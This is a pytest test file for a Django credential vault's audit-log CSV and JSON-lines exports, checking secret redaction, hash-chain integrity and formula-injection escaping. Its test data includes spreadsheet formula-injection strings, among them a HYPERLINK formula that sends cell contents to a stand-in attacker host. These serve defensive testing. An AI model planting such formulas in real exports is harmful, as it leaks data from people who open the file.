"""CSV and JSON-lines exports of the audit log."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from django.db import OperationalError
from django.db.models.query import QuerySet
from django.test import Client
from django.urls import reverse

from keyvault.audit.chain import audit_append, audit_verify, event_hash
from keyvault.audit.export import CSV_HEADER, csv_safe
from keyvault.audit.sentences import event_sentence
from keyvault.models import AuditAction, AuditEvent, Credential
from keyvault.rotation.services import credential_rotate, rotation_secret_clean
from keyvault.vault.services import credential_reveal, credential_reveal_denied
from tests.factories import ATLASSIAN_URL, NOW, MakeCredential, new_token

EXPORT_URL = reverse("keyvault:audit_export")


def _download(client: Client, **data: str) -> tuple[Any, str]:
    response = client.post(EXPORT_URL, data)
    assert response.status_code == 200, response.content
    assert response.streaming
    return response, b"".join(response.streaming_content).decode("utf-8")


def _csv(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),  # noqa: RUF001 (full-width equals, read as "=" by some spreadsheets)
        ("alice", "alice"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, 42),
        (-3, -3),
    ],
)
def test_csv_cells_cannot_start_a_formula(value: Any, cell: Any) -> None:
    assert csv_safe(value) == cell


@pytest.fixture
def two_integrations(
    make_credential: MakeCredential, admin_user: Any
) -> tuple[Credential, str, Credential, str]:
    first, first_token = make_credential(name="Atlassian acme")
    second, second_token = make_credential(name="Slack acme")
    credential_reveal(credential=first, actor=admin_user, now=NOW + timedelta(hours=1))
    when = NOW + timedelta(days=300)
    secret = rotation_secret_clean(
        credential=first, scim_url="", token=new_token(), expires_at=None, now=when
    )
    credential_rotate(credential=first, secret=secret, actor=admin_user, now=when, reason="yearly")
    return first, first_token, second, second_token


def test_csv_export_holds_the_filtered_rows_and_no_secret(
    two_integrations: tuple[Credential, str, Credential, str], auditor_client: Client
) -> None:
    first, first_token, _, second_token = two_integrations
    response, body = _download(auditor_client, format="csv", integration=str(first.integration_id))
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="keyvault-audit-')
    rows = _csv(body)
    assert list(rows[0].keys()) == list(CSV_HEADER)
    expected = AuditEvent.objects.filter(integration_id=first.integration_id).order_by("seq")
    assert [int(r["seq"]) for r in rows] == [e.seq for e in expected]
    assert [r["action"] for r in rows] == [
        "integration.created",
        "credential.created",
        "credential.revealed",
        "credential.rotated",
    ]
    assert {r["integration"] for r in rows} == {"Atlassian acme"}
    for secret in (first_token, second_token, ATLASSIAN_URL, ATLASSIAN_URL.rsplit("/", 1)[1]):
        assert secret not in body
    # Each row carries what its hash covers, so the export can be checked against the chain.
    for row, event in zip(rows, expected, strict=True):
        assert row["hash"] == event.hash == event_hash(event)
        assert json.loads(row["details"]) == event.details


def test_the_export_is_itself_audited_with_its_filter_and_is_not_in_its_own_output(
    two_integrations: tuple[Credential, str, Credential, str],
    auditor_client: Client,
    auditor_user: Any,
) -> None:
    first = two_integrations[0]
    _, body = _download(
        auditor_client,
        format="jsonl",
        action=AuditAction.CREDENTIAL_ROTATED,
        q="yearly",
        date_from="2026-01-01",
    )
    exported = AuditEvent.objects.get(action=AuditAction.AUDIT_EXPORTED)
    assert exported.actor == auditor_user
    assert exported.details == {
        "format": "jsonl",
        "filters": {"action": "credential.rotated", "q": "yearly", "date_from": "2026-01-01"},
        "rows": 1,
    }
    records = [json.loads(line) for line in body.splitlines()]
    assert [r["action"] for r in records] == ["credential.rotated"]
    assert records[0]["integration_id"] == str(first.integration_id)
    assert records[0]["details"]["reason"] == "yearly"
    assert audit_verify().ok


def test_jsonl_export_has_one_object_per_event_and_no_secret(
    two_integrations: tuple[Credential, str, Credential, str], admin_client: Client
) -> None:
    _, first_token, _, second_token = two_integrations
    before = AuditEvent.objects.count()
    response, body = _download(admin_client, format="jsonl")
    assert response["Content-Type"].startswith("application/x-ndjson")
    lines = body.splitlines()
    assert len(lines) == before  # everything before the export's own event
    records = [json.loads(line) for line in lines]
    assert [r["seq"] for r in records] == list(range(1, before + 1))
    assert first_token not in body and second_token not in body and ATLASSIAN_URL not in body


def test_csv_export_neutralises_formulas_in_every_text_column(
    db: Any, auditor_client: Client
) -> None:
    payload = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    audit_append(
        action=AuditAction.LOGIN_FAILED,
        now=NOW,
        actor_label=payload,
        details={"username": payload},
    )
    audit_append(action=AuditAction.LOGIN_FAILED, now=NOW, actor_label="@cmd", details={})
    audit_append(action=AuditAction.LOGIN_FAILED, now=NOW, actor_label="-1+2", details={})
    _, body = _download(auditor_client, format="csv", action=AuditAction.LOGIN_FAILED)
    rows = _csv(body)
    assert [r["actor"] for r in rows] == [f"'{payload}", "'@cmd", "'-1+2"]
    assert json.loads(rows[0]["details"]) == {"username": payload}  # JSON text starts with {
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_export_refuses_get_unknown_formats_and_bad_filters(
    db: Any, auditor_client: Client
) -> None:
    assert auditor_client.get(EXPORT_URL).status_code == 405
    assert auditor_client.post(EXPORT_URL, {"format": "xlsx"}).status_code == 400
    assert auditor_client.post(EXPORT_URL, {"format": "csv", "date_to": "nope"}).status_code == 400
    assert not AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORTED).exists()


#: The columns exports had before the readable ones were added: kept, same names and meaning.
ORIGINAL_COLUMNS = (
    "seq",
    "created_at",
    "action",
    "action_label",
    "actor",
    "actor_id",
    "integration",
    "integration_id",
    "target_type",
    "target_id",
    "ip",
    "details",
    "prev_hash",
    "hash",
)


def test_csv_has_readable_columns_next_to_every_original_one(
    two_integrations: tuple[Credential, str, Credential, str], auditor_client: Client
) -> None:
    first, first_token, _, _ = two_integrations
    credential_reveal_denied(credential=first, actor=first.created_by, now=NOW)
    _, body = _download(auditor_client, format="csv")
    rows = _csv(body)
    header = list(rows[0].keys())
    assert [c for c in header if c in ORIGINAL_COLUMNS] == list(ORIGINAL_COLUMNS)
    assert {"sentence", "credential_hint", "outcome"} <= set(header)

    rotated = next(r for r in rows if r["action"] == "credential.rotated")
    event = AuditEvent.objects.get(seq=int(rotated["seq"]))
    assert rotated["sentence"] == event_sentence(event)
    assert rotated["sentence"].startswith("alice rotated the Atlassian acme key ")
    assert rotated["sentence"].endswith("; reason “yearly”; identity provider update not confirmed")
    assert rotated["credential_hint"] == csv_safe(event.details["new_hint"])
    assert rotated["outcome"] == "succeeded"
    denied = next(r for r in rows if r["action"] == "credential.reveal_denied")
    assert (denied["outcome"], denied["credential_hint"]) == ("refused", csv_safe(first.hint))
    assert (
        denied["sentence"]
        == f"alice was refused the Atlassian acme key ····{first.hint} (wrong password)"
    )
    # The hashed fields are unchanged, so an unfiltered export still re-verifies offline.
    for row in rows:
        stored = AuditEvent.objects.get(seq=int(row["seq"]))
        assert row["hash"] == stored.hash == event_hash(stored)
        assert row["prev_hash"] == stored.prev_hash
        assert json.loads(row["details"]) == stored.details
    assert first_token not in body


def test_jsonl_records_carry_the_readable_fields_too(
    two_integrations: tuple[Credential, str, Credential, str], auditor_client: Client
) -> None:
    _, body = _download(auditor_client, format="jsonl", action=AuditAction.CREDENTIAL_REVEALED)
    (record,) = [json.loads(line) for line in body.splitlines()]
    assert record["sentence"].startswith("alice revealed the Atlassian acme key ····")
    assert record["outcome"] == "succeeded" and len(record["credential_hint"]) == 4


# --- the export's own audit event: recorded once the stream has been produced ------------


# Closing a response ends the request, which closes the database connection: the two tests
# that close one run outside a test transaction (``transactional_db``).


def _exports() -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORTED).order_by("seq"))


@pytest.fixture
def many_events(db: Any) -> int:
    """Enough events for an export of several chunks (each about 64k characters)."""
    for n in range(300):
        audit_append(
            action=AuditAction.LOGIN_FAILED, now=NOW, actor_label=f"u{n}", details={"x": "y" * 400}
        )
    return 300


def test_an_export_is_audited_only_once_its_stream_has_been_produced(
    auditor_client: Client, many_events: int
) -> None:
    recorded = AuditEvent.objects.count()  # the events, and the auditor's sign-in
    response = auditor_client.post(EXPORT_URL, {"format": "jsonl"})
    assert response.status_code == 200
    assert _exports() == []  # nothing recorded before a byte is produced
    body = b"".join(response.streaming_content).decode()
    (exported,) = _exports()
    assert exported.details["rows"] == recorded == len(body.splitlines())
    assert recorded > many_events
    assert "outcome" not in exported.details
    assert audit_verify().ok


def test_events_recorded_while_an_export_runs_stay_out_of_it(
    auditor_client: Client, many_events: int
) -> None:
    recorded = AuditEvent.objects.count()
    response = auditor_client.post(EXPORT_URL, {"format": "jsonl"})
    audit_append(action=AuditAction.LOGIN_FAILED, now=NOW, actor_label="late", details={})
    body = b"".join(response.streaming_content).decode()
    assert '"late"' not in body
    assert _exports()[0].details["rows"] == recorded


def test_an_export_whose_rows_cannot_be_read_is_recorded_as_failed(
    auditor_client: Client, many_events: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_iterator = QuerySet.iterator

    def breaks_half_way(self: QuerySet[Any], *args: Any, **kwargs: Any) -> Iterator[Any]:
        for n, row in enumerate(real_iterator(self, *args, **kwargs)):
            if n == 150:
                raise OperationalError("server closed the connection unexpectedly")
            yield row

    monkeypatch.setattr(QuerySet, "iterator", breaks_half_way)
    response = auditor_client.post(EXPORT_URL, {"format": "csv"})
    with pytest.raises(OperationalError):
        b"".join(response.streaming_content)
    (exported,) = _exports()
    assert exported.details["outcome"] == "failed"
    assert exported.details["error"] == "OperationalError"
    assert exported.details["rows"] == 150


def test_an_export_the_client_abandons_is_recorded_as_failed(
    transactional_db: Any, auditor_client: Client, many_events: int
) -> None:
    response = auditor_client.post(EXPORT_URL, {"format": "jsonl"})
    next(iter(response.streaming_content))  # the first chunk, then the client goes away
    response.close()  # what the WSGI server does then
    (exported,) = _exports()
    assert exported.details["outcome"] == "failed"
    assert exported.details["error"] == "GeneratorExit"
    assert 0 < exported.details["rows"] < many_events


def test_an_export_never_started_records_nothing(
    transactional_db: Any, auditor_client: Client
) -> None:
    response = auditor_client.post(EXPORT_URL, {"format": "csv"})
    response.close()
    assert _exports() == []
